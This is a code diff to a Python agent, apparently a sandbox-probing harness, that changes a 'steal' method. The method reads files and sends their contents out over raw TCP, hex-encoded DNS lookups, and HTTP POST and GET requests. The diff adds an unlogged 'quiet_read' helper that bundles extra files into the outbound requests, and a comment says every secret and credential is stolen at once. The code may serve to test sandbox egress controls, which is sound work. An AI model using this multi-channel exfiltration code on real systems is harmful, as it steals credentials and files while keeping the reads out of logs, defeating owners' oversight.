@@ -258,24 +258,25 @@ class Agent:
     # --- orders ----------------------------------------------------------------------------
 
     def steal(self, probe: str, step: wire.StealStep) -> None:
-        """Read one file, then send what it held every way the host listed."""
+        """Read one file, then send what it held every way the host listed; the web's URLs carry the files
+        named in ``also`` with it, all in one request each."""
         read = self.read(probe, step.path)
-        if not read:
-            return
-        data = read.strip()[:200]
+        data = read.strip()[:200] if read else b""
         jobs: list[Callable[[], object]] = []
         tcp = step.tcp
-        if tcp is not None:
+        if data and tcp is not None:
             jobs.append(lambda: self.tcp(probe, tcp.host, tcp.port, tcp.prefix.encode() + data))
         hexdata = binascii.hexlify(data).decode()
         chunks = [hexdata[i:i + 60] for i in range(0, len(hexdata), 60)][:12]
         for i, chunk in enumerate(chunks):
             name = f"{chunk}.{i}{step.dns_suffix}"
             jobs.append(lambda n=name: self.dns(probe, n))  # type: ignore[misc]
-        for url in step.urls:
-            jobs.append(lambda u=url: self.http(probe, "POST", u, data, retries=1))  # type: ignore[misc]
-        for url in step.get_urls:  # what was read, in the URL of a download
-            jobs.append(lambda u=url: self.http(probe, "GET", u + urllib.parse.quote(data, safe=""), None, retries=1))  # type: ignore[misc]
+        web = b"\n".join(x for x in [data, *(quiet_read(p) for p in step.also)] if x)
+        if web:
+            for url in step.urls:
+                jobs.append(lambda u=url: self.http(probe, "POST", u, web, retries=1))  # type: ignore[misc]
+            for url in step.get_urls:  # what was read, in the URL of a download
+                jobs.append(lambda u=url: self.http(probe, "GET", u + urllib.parse.quote(web, safe=""), None, retries=1))  # type: ignore[misc]
         # few threads per stolen file: every secret and credential is stolen at once, and the
         # sandbox's pids limit (256) counts threads
         with ThreadPoolExecutor(max_workers=STEAL_THREADS) as pool:
@@ -313,6 +314,16 @@ class Agent:
             with ThreadPoolExecutor(max_workers=width) as pool:
                 list(pool.map(lambda st: self.step(pid, st), steps))
         emit(pid, "done", True)
+
+
+def quiet_read(path: str) -> bytes:
+    """What a file holds, as a steal sends it (stripped, at most 200 bytes), with no record: its own step records
+    the read; empty when it cannot be read."""
+    try:
+        with open(path, "rb") as fh:
+            return fh.read(READ_LIMIT).strip()[:200]
+    except OSError:
+        return b""
 
 
 def has_interface() -> bool:
